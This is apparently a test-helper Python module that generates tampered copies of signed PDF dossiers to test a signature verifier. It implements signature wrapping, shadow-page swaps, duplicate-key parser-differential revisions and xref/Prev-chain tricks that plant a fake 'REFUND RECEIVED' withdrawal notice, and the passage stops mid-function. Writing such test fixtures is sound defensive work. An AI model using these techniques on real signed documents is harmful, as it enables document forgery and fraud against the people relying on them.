"""Make tampered copies of a dossier, the way an attacker would (used by tests only)."""

from __future__ import annotations

import io
import re
from pathlib import Path

from pypdf import PdfReader, PdfWriter
from pypdf.annotations import FreeText
from pypdf.generic import ArrayObject, DecodedStreamObject, NameObject, StreamObject


def flip_byte(path: Path, offset: int) -> None:
    with open(path, "r+b") as f:
        f.seek(offset)
        value = f.read(1)
        f.seek(offset)
        f.write(bytes([value[0] ^ 0x01]))


def _incremental(path: Path) -> PdfWriter:
    return PdfWriter(str(path), incremental=True)


def _save(writer: PdfWriter, path: Path) -> None:
    buf = io.BytesIO()
    writer.write(buf)
    path.write_bytes(buf.getvalue())


def overlay_page_content(path: Path, page: int = 0) -> None:
    """Append a revision that draws over a page (a changed page content)."""
    writer = _incremental(path)
    target = writer.pages[page]
    overlay = DecodedStreamObject()
    overlay.set_data(b"q 1 0 0 rg 50 400 300 80 re f Q")
    ref = writer._add_object(overlay)
    contents = target.get("/Contents")
    items = list(contents.get_object()) if isinstance(contents.get_object(), ArrayObject) else [contents]
    target[NameObject("/Contents")] = ArrayObject([*items, ref])
    _save(writer, path)


def add_annotation(path: Path, page: int = 0) -> None:
    writer = _incremental(path)
    writer.add_annotation(page, FreeText(text="已退款 refunded", rect=(50, 500, 300, 560)))
    _save(writer, path)


def swap_attachment(path: Path, key: str, data: bytes) -> None:
    """Replace the embedded file stream behind name-tree ``key`` with other bytes."""
    writer = _incremental(path)
    names = writer._root_object["/Names"]["/EmbeddedFiles"]["/Names"]
    for i in range(0, len(names), 2):
        if str(names[i]) == key:
            spec = names[i + 1].get_object()
            stream = StreamObject()
            stream._data = data
            stream[NameObject("/Type")] = NameObject("/EmbeddedFile")
            ref = writer._add_object(stream)
            spec["/EF"][NameObject("/F")] = ref
            spec["/EF"][NameObject("/UF")] = ref
            break
    else:
        raise KeyError(key)
    _save(writer, path)


def attachment_offset(path: Path, key: str) -> int:
    """Byte offset of the first data byte of attachment ``key`` (for byte flips)."""
    reader = PdfReader(str(path))
    names = reader.trailer["/Root"]["/Names"]["/EmbeddedFiles"]["/Names"]
    for i in range(0, len(names), 2):
        if str(names[i]) == key:
            ref = names[i + 1].get_object()["/EF"].raw_get("/F")
            offset = reader.xref[0][ref.idnum]
            raw = path.read_bytes()
            return raw.index(b"stream\n", offset) + len(b"stream\n")
    raise KeyError(key)


# --- the PDF-Insecurity catalogue, generated against our own dossiers -------------------------------



from pypdf.generic import DictionaryObject, IndirectObject, NumberObject  # noqa: E402

_BR = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]")


def last_byte_range(data: bytes) -> tuple[re.Match[bytes], tuple[int, int, int, int]]:
    match = list(_BR.finditer(data))[-1]
    return match, tuple(int(x) for x in match.groups())  # type: ignore[return-value]


def signature_gap(path: Path) -> tuple[int, int]:
    """(start, end) of the last signature's /Contents hex string, '<' and '>' included."""
    _, (_, len1, start2, _) = last_byte_range(path.read_bytes())
    return len1, start2


def flip_in_signature_value(path: Path) -> None:
    """Outside the signed range: a byte of the CMS signature itself (hex digit changed)."""
    start, _ = signature_gap(path)
    _replace_hex_digit(path, start + 400)


def flip_in_signature_padding(path: Path) -> None:
    """Outside the signed range: the zero padding after the CMS structure."""
    _, end = signature_gap(path)
    _replace_hex_digit(path, end - 20)


def _replace_hex_digit(path: Path, offset: int) -> None:
    with open(path, "r+b") as f:
        f.seek(offset)
        old = f.read(1)
        f.seek(offset)
        f.write(b"1" if old != b"1" else b"2")


def zero_contents(path: Path) -> None:
    """USF: /Contents kept in place but all zeros."""
    start, end = signature_gap(path)
    with open(path, "r+b") as f:
        f.seek(start + 1)
        f.write(b"0" * (end - start - 2))


def empty_contents(path: Path) -> None:
    """USF: /Contents <> (the rest of the reserved space blanked)."""
    start, end = signature_gap(path)
    with open(path, "r+b") as f:
        f.seek(start)
        f.write(b"<>" + b" " * (end - start - 2))


def rename_key(path: Path, key: bytes, new: bytes) -> None:
    """USF: a signature dictionary entry made unreadable (same length, other name)."""
    data = path.read_bytes()
    pos = data.rindex(key)
    assert len(key) == len(new)
    path.write_bytes(data[:pos] + new + data[pos + len(key):])


def rewrite_byte_range(path: Path, new: tuple[int, int, int, int]) -> None:
    """/ByteRange rewritten in place (same length, padded with spaces)."""
    data = path.read_bytes()
    match, _ = last_byte_range(data)
    text = b"/ByteRange [%d %d %d %d]" % new
    room = match.end() - match.start()
    while len(text) > room and data[match.start() + room:match.start() + room + 1] == b" ":
        room += 1  # pyHanko pads the array with spaces: the new text may use them
    if len(text) > room:
        raise ValueError("new /ByteRange does not fit")
    path.write_bytes(data[:match.start()] + text.ljust(room) + data[match.start() + room:])


def wrap_signature(path: Path) -> None:
    """Signature wrapping (SWA): the signed bytes stay identical, but a copy of the signature
    dictionary whose /ByteRange skips over an injected object is placed in the unsigned
    gap, and a new cross-reference section makes readers use it. The digest still matches.
    """
    data = path.read_bytes()
    match, (_, len1, start2, len2) = last_byte_range(data)
    obj_start = data.rindex(b" 0 obj", 0, len1)
    obj_start = data.rindex(b"\n", 0, obj_start) + 1
    obj_num = int(data[obj_start:data.index(b" ", obj_start)])
    obj_end = data.index(b"endobj", match.end()) + len(b"endobj")
    size = int(re.findall(rb"/Size (\d+)", data)[-1])
    evil = b"\n%d 0 obj\n<< /Length 34 >>\nstream\nq 1 0 0 rg 0 0 600 850 re f Q\n\nendstream\nendobj\n" % size
    original_obj = data[obj_start:obj_end]
    # the copy's /ByteRange will point past the injected bytes; compute lengths iteratively
    inject = b""
    for _ in range(3):
        new_start2 = start2 + len(inject)
        copy = _BR.sub(b"/ByteRange [0 %d %d %d]" % (len1, new_start2, len2), original_obj, count=1)
        inject = b"\n" + copy + evil
    new_start2 = start2 + len(inject)
    body = data[:start2] + inject + data[start2:]
    copy_offset = start2 + 1
    evil_offset = start2 + len(inject) - len(evil) + 1
    old_startxref = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    root = re.findall(rb"/Root (\d+ \d+ R)", data)[-1]
    xref_at = len(body)
    xref = (b"xref\n%d 1\n%010d 00000 n \n%d 1\n%010d 00000 n \n" % (obj_num, copy_offset, size, evil_offset)
            + b"trailer\n<< /Size %d /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
            % (size + 1, root, old_startxref + len(inject), xref_at))
    path.write_bytes(body + xref)
    assert new_start2 == start2 + len(inject)


def add_info(path: Path) -> None:
    """Metadata: an /Info dictionary added by an incremental update."""
    writer = _incremental(path)
    writer.add_metadata({"/Title": "已全额退款 fully refunded", "/Author": "someone else"})
    _save(writer, path)


def add_xmp(path: Path) -> None:
    """Metadata: an XMP /Metadata stream added to the catalog by an incremental update."""
    writer = _incremental(path)
    xmp = (b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
           b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
           b'xmlns:dc="http://purl.org/dc/elements/1.1/" dc:format="application/pdf"/></rdf:RDF>'
           b'</x:xmpmeta><?xpacket end="w"?>')
    stream = DecodedStreamObject()
    stream.set_data(xmp)
    stream[NameObject("/Type")] = NameObject("/Metadata")
    stream[NameObject("/Subtype")] = NameObject("/XML")
    writer._root_object[NameObject("/Metadata")] = writer._add_object(stream)
    _save(writer, path)


def add_page(path: Path) -> None:
    writer = _incremental(path)
    writer.add_blank_page(595, 842)
    _save(writer, path)


def remove_page(path: Path, index: int = -1) -> None:
    writer = _incremental(path)
    pages = writer._root_object["/Pages"].get_object()
    kids = pages["/Kids"]
    del kids[index]
    pages[NameObject("/Count")] = NumberObject(int(pages["/Count"]) - 1)
    _save(writer, path)


def add_attachment(path: Path, name: str, data: bytes) -> None:
    writer = _incremental(path)
    writer.add_attachment(name, data)
    _save(writer, path)


def remove_signature(path: Path) -> None:
    """The signature field dropped from /AcroForm /Fields and its widget from the page's /Annots."""
    writer = _incremental(path)
    acroform = writer._root_object["/AcroForm"].get_object()
    acroform[NameObject("/Fields")] = ArrayObject([
        f for f in acroform["/Fields"] if f.get_object().get("/FT") != "/Sig"])
    for page in writer.pages:
        if "/Annots" in page:
            page[NameObject("/Annots")] = ArrayObject([
                a for a in page["/Annots"] if a.get_object().get("/FT") != "/Sig"])
    _save(writer, path)


def shadow_prepare(path: Path) -> int:
    """Before sealing (the attacker is the one who prepares the document): an unreferenced
    second page tree with a different page rides along in the file. Returns its object number."""
    writer = _incremental(path)
    content = DecodedStreamObject()
    content.set_data(b"BT /F1 36 Tf 72 700 Td (REFUND APPROVED) Tj ET")
    font = DictionaryObject({NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
                             NameObject("/BaseFont"): NameObject("/Helvetica")})
    shadow_pages = DictionaryObject({NameObject("/Type"): NameObject("/Pages"), NameObject("/Count"): NumberObject(1),
                                     NameObject("/Kids"): ArrayObject()})
    shadow_ref = writer._add_object(shadow_pages)
    page = DictionaryObject({
        NameObject("/Type"): NameObject("/Page"), NameObject("/Parent"): shadow_ref,
        NameObject("/MediaBox"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(595), NumberObject(842)]),
        NameObject("/Contents"): writer._add_object(content),
        NameObject("/Resources"): DictionaryObject({NameObject("/Font"): DictionaryObject(
            {NameObject("/F1"): writer._add_object(font)})}),
    })
    shadow_pages[NameObject("/Kids")].append(writer._add_object(page))
    _save(writer, path)
    return shadow_ref.idnum


def shadow_swap(path: Path, shadow_idnum: int) -> None:
    """After sealing: an update that only points /Root /Pages at the shadow page tree."""
    writer = _incremental(path)
    writer._root_object[NameObject("/Pages")] = IndirectObject(shadow_idnum, 0, writer)
    _save(writer, path)


def truncate(path: Path, keep: int) -> None:
    data = path.read_bytes()
    path.write_bytes(data[:keep])


def append_garbage(path: Path, junk: bytes = b"\nthis is not part of the signed file 1 0 obj << >> endobj\n") -> None:
    with open(path, "ab") as f:
        f.write(junk)


def manifest_bytes(path: Path) -> bytes:
    reader = PdfReader(str(path))
    names = reader.trailer["/Root"]["/Names"]["/EmbeddedFiles"]["/Names"]
    for i in range(0, len(names), 2):
        if str(names[i]) == "manifest.json":
            return bytes(names[i + 1].get_object()["/EF"]["/F"].get_object().get_data())
    raise KeyError("manifest.json")


def rebuild_with_manifest(path: Path, manifest: bytes) -> None:
    """The whole file rewritten (not an incremental update) with another manifest, keeping the
    signature dictionary as it was: what a naive 'edit and save' tool does."""
    writer = PdfWriter(clone_from=str(path))
    names = writer._root_object["/Names"]["/EmbeddedFiles"]["/Names"]
    for i in range(0, len(names), 2):
        if str(names[i]) == "manifest.json":
            stream = names[i + 1].get_object()["/EF"]["/F"].get_object()
            stream.set_data(manifest)
    _save(writer, path)


# --- byte-level revisions: what each reader sees differently (issue 8) ------------------------------
#
# pypdf and pyHanko keep the *first* value of a repeated dictionary key; qpdf (pikepdf) and
# poppler keep the *last*. pypdf would normalise such a dictionary away when writing, so the
# updates below are written byte by byte: new objects, a cross-reference section, a trailer
# with /Prev, startxref and %%EOF. They work on any of our dossiers (cross-reference tables;
# the newest section may also be a cross-reference stream).

import zlib  # noqa: E402
from dataclasses import dataclass  # noqa: E402

_HEADER = re.compile(rb"(\d+)\s+(\d+)\s+obj\b")
REFUND_LINES = ("REFUND RECEIVED: 218.00 CNY returned on 2025-03-20",
                "THE COMPLAINANT WITHDRAWS THIS COMPLAINT")
EVIL_BYTES = b"REFUND RECEIVED. The complainant withdraws this complaint. (not the sealed original)\n"


@dataclass(frozen=True)
class Tail:
    """What the newest trailer says (first value of a key, as pyHanko reads it), and where
    each object's newest definition starts."""

    startxref: int
    size: int
    root: int
    file_id: bytes  # the raw "/ID [...]" entry, or b""
    offsets: dict[int, int]


def read_tail(data: bytes) -> Tail:
    startxref = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
    offsets: dict[int, int] = {}
    newest: bytes | None = None
    pos: int | None = startxref
    seen: set[int] = set()
    while pos is not None and pos not in seen:
        seen.add(pos)
        trailer, section = _xref_section(data, pos)
        for num, offset in section.items():
            offsets.setdefault(num, offset)
        newest = trailer if newest is None else newest
        prev = re.search(rb"/Prev\s+(\d+)", trailer)
        pos = int(prev.group(1)) if prev else None
    assert newest is not None
    root = re.search(rb"/Root\s+(\d+)\s+\d+\s+R", newest)
    size = re.search(rb"/Size\s+(\d+)", newest)
    file_id = re.search(rb"/ID\s*\[[^\]]*\]", newest)
    assert root and size, newest
    return Tail(startxref, int(size.group(1)), int(root.group(1)), file_id.group(0) if file_id else b"", offsets)


def _xref_section(data: bytes, pos: int) -> tuple[bytes, dict[int, int]]:
    """(trailer dictionary bytes, object number -> offset) of one cross-reference section."""
    offsets: dict[int, int] = {}
    if data.startswith(b"xref", pos):
        end = data.index(b"trailer", pos)
        lines = data[pos + 4:end].split()
        i = 0
        while i < len(lines):
            first, count = int(lines[i]), int(lines[i + 1])
            i += 2
            for n in range(count):
                offset, _gen, kind = lines[i:i + 3]
                i += 3
                if kind == b"n":
                    offsets[first + n] = int(offset)
        return data[end:data.index(b"startxref", end)], offsets
    # a cross-reference stream
    head = _HEADER.match(data, pos)
    assert head, data[pos:pos + 40]
    dict_end = data.index(b"stream", head.end())
    xdict = data[head.end():dict_end]
    length = int(re.search(rb"/Length\s+(\d+)", xdict).group(1))  # type: ignore[union-attr]
    start = dict_end + len(b"stream")
    start += 2 if data[start:start + 2] == b"\r\n" else 1
    raw = data[start:start + length]
    if b"/FlateDecode" in xdict:
        raw = zlib.decompress(raw)
    widths = [int(w) for w in re.search(rb"/W\s*\[([^\]]*)\]", xdict).group(1).split()]  # type: ignore[union-attr]
    index_match = re.search(rb"/Index\s*\[([^\]]*)\]", xdict)
    size = int(re.search(rb"/Size\s+(\d+)", xdict).group(1))  # type: ignore[union-attr]
    index = [int(v) for v in index_match.group(1).split()] if index_match else [0, size]
    row = sum(widths)
    at = 0
    for first, count in zip(index[::2], index[1::2]):
        for n in range(count):
            fields, cut = [], at
            for width in widths:
                fields.append(int.from_bytes(raw[cut:cut + width], "big"))
                cut += width
            at += row
            if (fields[0] if widths[0] else 1) == 1:
                offsets[first + n] = fields[1]
    return xdict, offsets


def object_body(data: bytes, num: int, tail: Tail | None = None) -> bytes:
    """The newest definition of a dictionary object, ``<< ... >>``, as written."""
    tail = tail or read_tail(data)
    offset = tail.offsets[num]
    head = _HEADER.match(data, offset)
    assert head and int(head.group(1)) == num, (num, data[offset:offset + 30])
    body = data[head.end():data.index(b"endobj", head.end())].strip()
    assert body.startswith(b"<<") and body.endswith(b">>"), body[:60]
    return body


def with_entries(body: bytes, entries: bytes) -> bytes:
    """A dictionary with ``entries`` written after its own (a repeated key stays repeated)."""
    assert body.endswith(b">>")
    return body[:-2].rstrip() + b"\n" + entries + b"\n>>"


def stream_object(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(data), extra, data)


def embedded_file_stream(data: bytes) -> bytes:
    return stream_object(data, b"/Type /EmbeddedFile /Subtype /text#2Fplain /Params << /Size %d >> " % len(data))


def append_revision(path: Path, objects: list[tuple[int, bytes]], *, trailer_extra: bytes = b"",
                    before: bytes = b"", prev: int | None = None) -> None:
    """Append one incremental update: ``before`` (raw bytes no cross-reference names), the
    objects, a cross-reference table and a trailer chained to the previous one by /Prev
    (or to ``prev``). An object number given twice is written twice; the table names its
    first body."""
    data = path.read_bytes()
    tail = read_tail(data)
    out = bytearray(data if data.endswith(b"\n") else data + b"\n")
    out += before
    offsets: dict[int, int] = {}
    for num, body in objects:
        offsets.setdefault(num, len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (num, body)
    xref_at = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for first, run in _runs(sorted(offsets)):
        out += b"%d %d\n" % (first, len(run)) + b"".join(b"%010d 00000 n \n" % offsets[n] for n in run)
    size = max([tail.size, *(n + 1 for n in offsets)])
    out += (b"trailer\n<< /Size %d /Root %d 0 R %s /Prev %d %s>>\nstartxref\n%d\n%%%%EOF\n"
            % (size, tail.root, tail.file_id, tail.startxref if prev is None else prev, trailer_extra, xref_at))
    path.write_bytes(bytes(out))


def append_xref_stream_revision(path: Path, objects: list[tuple[int, bytes]], *,
                                packed: list[tuple[int, bytes]] = (), dict_extra: bytes = b"") -> None:  # type: ignore[assignment]
    """Append an update whose cross-reference section is a stream (PDF 1.5), with the
    ``packed`` objects inside an object stream (/Type /ObjStm)."""
    data = path.read_bytes()
    tail = read_tail(data)
    out = bytearray(data if data.endswith(b"\n") else data + b"\n")
    entries: dict[int, tuple[int, int, int]] = {}
    for num, body in objects:
        entries[num] = (1, len(out), 0)
        out += b"%d 0 obj\n%s\nendobj\n" % (num, body)
    nums = [n for n, _ in objects] + [n for n, _ in packed]
    next_free = max([tail.size, *(n + 1 for n in nums)])
    if packed:
        objstm = next_free
        next_free += 1
        bodies, header = b"", b""
        for i, (num, body) in enumerate(packed):
            header += b"%d %d " % (num, len(bodies))
            bodies += body + b"\n"
            entries[num] = (2, objstm, i)
        content = zlib.compress(header + bodies)
        entries[objstm] = (1, len(out), 0)
        out += b"%d 0 obj\n%s\nendobj\n" % (objstm, stream_object(
            content, b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode " % (len(packed), len(header))))
    xref_num = next_free
    entries[xref_num] = (1, len(out), 0)
    xref_at = len(out)
    rows = b"".join(bytes([entries[n][0]]) + entries[n][1].to_bytes(4, "big") + entries[n][2].to_bytes(2, "big")
                    for n in sorted(entries))
    index = b" ".join(b"%d %d" % (first, len(run)) for first, run in _runs(sorted(entries)))
    packed_rows = zlib.compress(rows)
    out += b"%d 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (xref_num, stream_object(
        packed_rows, b"/Type /XRef /Size %d /Root %d 0 R %s /Prev %d /W [1 4 2] /Index [%s] /Filter /FlateDecode %s"
        % (xref_num + 1, tail.root, tail.file_id, tail.startxref, index, dict_extra)), xref_at)
    path.write_bytes(bytes(out))


def _runs(nums: list[int]) -> list[tuple[int, list[int]]]:
    runs: list[tuple[int, list[int]]] = []
    for n in nums:
        if runs and runs[-1][1][-1] == n - 1:
            runs[-1][1].append(n)
        else:
            runs.append((n, [n]))
    return runs


def _shadow_page_tree(first: int, pages: tuple[tuple[str, ...], ...] = (REFUND_LINES, ("No further evidence.",))
                      ) -> tuple[int, list[tuple[int, bytes]]]:
    """A page tree of its own (Helvetica text pages) from object number ``first`` on;
    returns (its /Pages object number, the objects)."""
    tree, font = first, first + 1
    objects = [(font, b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>")]
    kids = []
    for i, lines in enumerate(pages):
        page, content = first + 2 + 2 * i, first + 3 + 2 * i
        text = b"BT /Helv 20 Tf 60 760 Td 26 TL " + b" ".join(b"(%s) '" % line.encode() for line in lines) + b" ET"
        objects.append((content, stream_object(text)))
        objects.append((page, b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595.2756 841.8898] /Contents %d 0 R "
                              b"/Resources << /Font << /Helv %d 0 R >> >> >>" % (tree, content, font)))
        kids.append(b"%d 0 R" % page)
    objects.insert(0, (tree, b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(kids), len(kids))))
    return tree, objects


def _pypdf(data: bytes) -> PdfReader:
    return PdfReader(io.BytesIO(data), strict=False)


def _page_refs(data: bytes) -> list[int]:
    return [page.indirect_reference.idnum for page in _pypdf(data).pages]


def _name_tree(data: bytes) -> tuple[int, list[tuple[str, int]]]:
    """(object number of the /EmbeddedFiles name tree, [(key, filespec object number)])."""
    root = _pypdf(data).trailer["/Root"]
    tree_ref = root["/Names"].raw_get("/EmbeddedFiles")
    names = tree_ref.get_object()["/Names"]
    return tree_ref.idnum, [(str(names[i]), names[i + 1].idnum) for i in range(0, len(names), 2)]


def _spec_of(data: bytes, key: str) -> int:
    return dict(_name_tree(data)[1])[key]


def _pdf_string(text: str) -> bytes:
    return b"<FEFF" + text.encode("utf-16-be").hex().upper().encode() + b">"


# 1, 9: the catalog re-listed with a second /Pages (plain, or spelt /P#61ges)
def catalog_second_pages(path: Path, key: bytes = b"/Pages") -> None:
    """Readers that keep the last /Pages show a 2-page "REFUND RECEIVED" document."""
    data = path.read_bytes()
    tail = read_tail(data)
    tree, objects = _shadow_page_tree(tail.size)
    catalog = with_entries(object_body(data, tail.root, tail), key + b" %d 0 R" % tree)
    append_revision(path, [(tail.root, catalog), *objects])


def escaped_second_pages(path: Path) -> None:
    catalog_second_pages(path, b"/P#61ges")


# 2: the catalog with a second /Names: another E02 and an empty manifest
def catalog_second_names(path: Path, replaced: str = "E02") -> None:
    data = path.read_bytes()
    tail = read_tail(data)
    _, entries = _name_tree(data)
    n = tail.size
    objects: list[tuple[int, bytes]] = []
    pairs = []
    for key, spec in entries:
        if key in (replaced, "manifest.json"):
            payload = EVIL_BYTES if key == replaced else b"{}"
            objects.append((n, embedded_file_stream(payload)))
            objects.append((n + 1, b"<< /Type /Filespec /F (%s) /UF (%s) /EF << /F %d 0 R /UF %d 0 R >> "
                                   b"/AFRelationship /Source >>" % (key.encode(), key.encode(), n, n)))
            spec = n + 1
            n += 2
        pairs.append(b"(%s) %d 0 R" % (key.encode(), spec))
    objects.append((n, b"<< /Names [%s] >>" % b" ".join(pairs)))
    catalog = with_entries(object_body(data, tail.root, tail), b"/Names << /EmbeddedFiles %d 0 R >>" % n)
    append_revision(path, [(tail.root, catalog), *objects])


# 3: a page re-listed with a second /Contents (and /Resources for its font)
def page_second_contents(path: Path, page: int = 0, key: bytes = b"/Contents") -> None:
    data = path.read_bytes()
    tail = read_tail(data)
    num = _page_refs(data)[page]
    content, font = tail.size, tail.size + 1
    text = (b"q 1 1 1 rg 0 0 596 842 re f Q BT /Helv 22 Tf 60 760 Td 30 TL "
            + b" ".join(b"(%s) '" % line.encode() for line in REFUND_LINES) + b" ET")
    body = with_entries(object_body(data, num, tail),
                        key + b" %d 0 R /Resources << /Font << /Helv %d 0 R >> >>" % (content, font))
    append_revision(path, [(num, body), (content, stream_object(text)),
                           (font, b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")])


def _shadow_catalog(data: bytes, tail: Tail, first: int) -> tuple[int, list[tuple[int, bytes]]]:
    """A copy of the catalog without the signature form, over the shadow page tree."""
    tree, objects = _shadow_page_tree(first + 1)
    catalog = object_body(data, tail.root, tail)
    catalog = re.sub(rb"/Pages\s+\d+\s+0\s+R", b"/Pages %d 0 R" % tree, catalog)
    catalog = re.sub(rb"/AcroForm\s+\d+\s+0\s+R", b"", catalog)
    return first, [(first, catalog), *objects]


# 4: the update's trailer with two /Root
def trailer_second_root(path: Path) -> None:
    data = path.read_bytes()
    tail = read_tail(data)
    catalog, objects = _shadow_catalog(data, tail, tail.size)
    append_revision(path, objects, trailer_extra=b"/Root %d 0 R " % catalog)


# 5: a stream dictionary with two /Length
def stream_second_length(path: Path, page: int = 0) -> None:
    """The page's content stream re-listed with /Length L /Length L': the first length ends
    at an "endstream" right after the original content; the last one runs on over it into a
    white box that hides the page."""
    data = path.read_bytes()
    tail = read_tail(data)  # noqa: F841 - unused: append_revision reads the tail itself
    reader = _pypdf(data)
    contents = reader.pages[page].raw_get("/Contents")
    ref = contents if hasattr(contents, "idnum") else contents.get_object()[0]
    original = reader.get_object(ref.idnum).get_data()
    hidden = b"\nendstream\nq 1 1 1 rg 0 0 596 842 re f Q"
    body = b"<< /Length %d /Length %d >>\nstream\n%s%s\nendstream" % (
        len(original), len(original) + len(hidden), original, hidden)
    append_revision(path, [(ref.idnum, body)])


# 6: an object stream holding a catalog with a repeated key
def objstm_second_pages(path: Path) -> None:
    data = path.read_bytes()
    tail = read_tail(data)
    tree, objects = _shadow_page_tree(tail.size)
    catalog = with_entries(object_body(data, tail.root, tail), b"/Pages %d 0 R" % tree)
    append_xref_stream_revision(path, objects, packed=[(tail.root, catalog)])


# 7: a cross-reference stream dictionary with a repeated key (/Root)
def xref_stream_second_root(path: Path) -> None:
    data = path.read_bytes()
    tail = read_tail(data)
    catalog, objects = _shadow_catalog(data, tail, tail.size)
    append_xref_stream_revision(path, objects, dict_extra=b"/Root %d 0 R " % catalog)


# 8: a file specification with a repeated /EF, /F or /UF
def filespec_repeated_key(path: Path, key: str = "/EF", item: str = "E02") -> None:
    """``/EF``: a second /EF dictionary; ``/EF/F``, ``/EF/UF``: a second stream entry inside
    /EF (poppler reads /F, qpdf prefers /UF); ``/UF``: a second file name."""
    data = path.read_bytes()
    tail = read_tail(data)
    spec = _spec_of(data, item)
    stream = tail.size
    body = object_body(data, spec, tail)
    if key == "/EF":
        body = with_entries(body, b"/EF << /F %d 0 R /UF %d 0 R >>" % (stream, stream))
    elif key in ("/EF/F", "/EF/UF"):
        ef = re.search(rb"/EF\s*<<(.*?)>>", body, re.S)
        assert ef, body
        inner = ef.group(1) + b" %s %d 0 R " % (key[3:].encode(), stream)
        body = body[:ef.start()] + b"/EF <<" + inner + b">>" + body[ef.end():]
    else:
        assert key == "/UF"
        body = with_entries(body, b"/UF " + _pdf_string(f"{item}_退款已到账.txt"))
    objects = [(spec, body)]
    if key != "/UF":
        objects.append((stream, embedded_file_stream(EVIL_BYTES)))
    append_revision(path, objects)


# 9: see catalog_second_pages(key=b"/P#61ges")


# 10: one object number defined twice in one revision
def object_defined_twice(path: Path) -> None:
    """The update holds two bodies of the catalog; its table points to the first (unchanged)
    one. A reader that rebuilds the table by scanning the file takes the second, whose
    /Pages is the shadow page tree."""
    data = path.read_bytes()
    tail = read_tail(data)
    catalog = object_body(data, tail.root, tail)
    tree, objects = _shadow_page_tree(tail.size)
    shadow = re.sub(rb"/Pages\s+\d+\s+0\s+R", b"/Pages %d 0 R" % tree, catalog)
    append_revision(path, [(tail.root, catalog), *objects, (tail.root, shadow)])


# cross-reference entries that do not name what they point at; a /Prev chain that skips a revision
def xref_points_elsewhere(path: Path) -> None:
    """The update's table says the catalog is at an offset where another object (a shadow
    catalog numbered as a new object) starts."""
    data = path.read_bytes()
    tail = read_tail(data)
    decoy, objects = _shadow_catalog(data, tail, tail.size)
    append_revision(path, objects)
    data = path.read_bytes()
    new = read_tail(data)
    section = data[new.startxref:]
    entry = b"%010d 00000 n \n" % new.offsets[decoy]
    # one more subsection: the catalog's number, pointing at the decoy's body
    patched = section.replace(b"trailer", b"%d 1\n%s" % (tail.root, entry) + b"trailer", 1)
    path.write_bytes(data[:new.startxref] + patched)


def prev_skips_seal(path: Path) -> None:
    """An update whose /Prev points past the seal's revision to the one before it: a reader
    following the chain never sees the signature."""
    data = path.read_bytes()
    tail = read_tail(data)
    trailer, _ = _xref_section(data, tail.startxref)
    before_seal = int(re.search(rb"/Prev\s+(\d+)", trailer).group(1))  # type: ignore[union-attr]
    _, objects = _shadow_catalog(data, tail, tail.size)
    # the shadow catalog takes the catalog's own number: the older chain has no other
    append_revision(path, [(tail.root, objects[0][1]), *objects[1:]], prev=before_seal)


# 11: unsigned bytes after the seal: alone, or followed by a no-op update
def _hidden_bodies(data: bytes, tail: Tail) -> bytes:
    """Object bodies no cross-reference section names: a catalog over a shadow page tree."""
    catalog = object_body(data, tail.root, tail)
    tree, objects = _shadow_page_tree(tail.size)
    shadow = re.sub(rb"/Pages\s+\d+\s+0\s+R", b"/Pages %d 0 R" % tree, catalog)
    return b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, b) for n, b in [(tail.root, shadow), *objects])


def unsigned_bytes(path: Path) -> None:
    data = path.read_bytes()
    with open(path, "ab") as f:
        f.write(_hidden_bodies(data, read_tail(data)))


def noop_update(path: Path) -> None:
    """An update that changes nothing: an empty table re-stating the same /Root."""
    append_revision(path, [])


def unsigned_bytes_then_noop_update(path: Path) -> None:
    data = path.read_bytes()
    append_revision(path, [], before=_hidden_bodies(data, read_tail(data)))


# 13: more than one way to an attachment
def name_tree_duplicate(path: Path, item: str = "E02") -> None:
    """The name tree lists ``item`` twice: another file first, the sealed one second."""
    data = path.read_bytes()
    tail = read_tail(data)
    tree, entries = _name_tree(data)
    stream, spec = tail.size, tail.size + 1
    pairs = []
    for key, ref in entries:
        if key == item:
            pairs.append(b"(%s) %d 0 R" % (key.encode(), spec))
        pairs.append(b"(%s) %d 0 R" % (key.encode(), ref))
    append_revision(path, [
        (tree, b"<< /Names [%s] >>" % b" ".join(pairs)),
        (stream, embedded_file_stream(EVIL_BYTES)),
        (spec, b"<< /Type /Filespec /F (%s.txt) /UF (%s.txt) /EF << /F %d 0 R /UF %d 0 R >> /AFRelationship /Source >>"
         % (item.encode(), item.encode(), stream, stream)),
    ])


def uf_stream_differs(path: Path, item: str = "E02") -> None:
    """/EF /F still the sealed file, /EF /UF another one."""
    data = path.read_bytes()
    tail = read_tail(data)
    spec = _spec_of(data, item)
    stream = tail.size
    body = object_body(data, spec, tail)
    body = re.sub(rb"/UF\s+\d+\s+0\s+R", b"/UF %d 0 R" % stream, body)
    append_revision(path, [(spec, body), (stream, embedded_file_stream(EVIL_BYTES))])


def file_attachment_annotation(path: Path, page: int = -1) -> None:
    """A /FileAttachment annotation (a paper-clip icon) carrying a file of its own."""
    data = path.read_bytes()
    tail = read_tail(data)
    num = _page_refs(data)[page]
    stream, spec, annot = tail.size, tail.size + 1, tail.size + 2
    body = object_body(data, num, tail)
    if re.search(rb"/Annots\s*\[", body):
        body = re.sub(rb"/Annots\s*\[", b"/Annots [%d 0 R " % annot, body, count=1)
    else:
        body = with_entries(body, b"/Annots [%d 0 R]" % annot)
    append_revision(path, [
        (num, body), (stream, embedded_file_stream(EVIL_BYTES)),
